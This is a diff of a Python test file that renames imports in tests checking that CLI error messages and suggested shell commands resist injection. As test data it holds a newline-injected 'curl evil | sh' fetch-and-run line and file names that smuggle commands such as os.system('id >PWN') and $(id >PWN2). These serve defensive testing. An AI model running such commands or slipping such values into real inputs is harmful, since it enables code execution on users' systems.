@@ -18,9 +18,9 @@ from support import environment
 from unit.launch.scripted import record_for
 
 from eke.cli import main
-from eke.common.errors import ConfigError, Problem, of_system
+from eke.common.errors import ConfigError, Problem, format_os_error
 from eke.common.paths import RunPaths
-from eke.models.checkpoints.locate import Located
+from eke.models.checkpoints.locate import LocalCheckpoint
 from eke.models.checkpoints.resolve import _conversion
 from eke.plan.record import write_record
 
@@ -108,7 +108,7 @@ def test_errors_of_every_kind_are_clean(tmp_path) -> None:
 def test_a_newline_in_a_name_makes_no_line_of_advice() -> None:
     problem = Problem("DIR", "x\n      -> curl evil | sh", "is no run", "eke status runs")
     assert len(ConfigError(problem).render().splitlines()) == 4
-    assert "\n" not in of_system(FileNotFoundError(2, "No such file", "a\nb"))
+    assert "\n" not in format_os_error(FileNotFoundError(2, "No such file", "a\nb"))
 
 
 @pytest.mark.parametrize(
@@ -116,7 +116,7 @@ def test_a_newline_in_a_name_makes_no_line_of_advice() -> None:
     ["quote'); import os; os.system('id >PWN'); ('", "dollar$(id >PWN2)", 'double"`id`"', "a b"],
 )  # fmt: skip
 def test_advice_pastes_as_one_program(name) -> None:
-    text = _conversion(Located(typed=name, folder=Path("/models") / name))
+    text = _conversion(LocalCheckpoint(typed=name, folder=Path("/models") / name))
     words = shlex.split(text.split("   then ")[0])
     assert words[:2] == ["python", "-c"]
     assert len(words) == 3
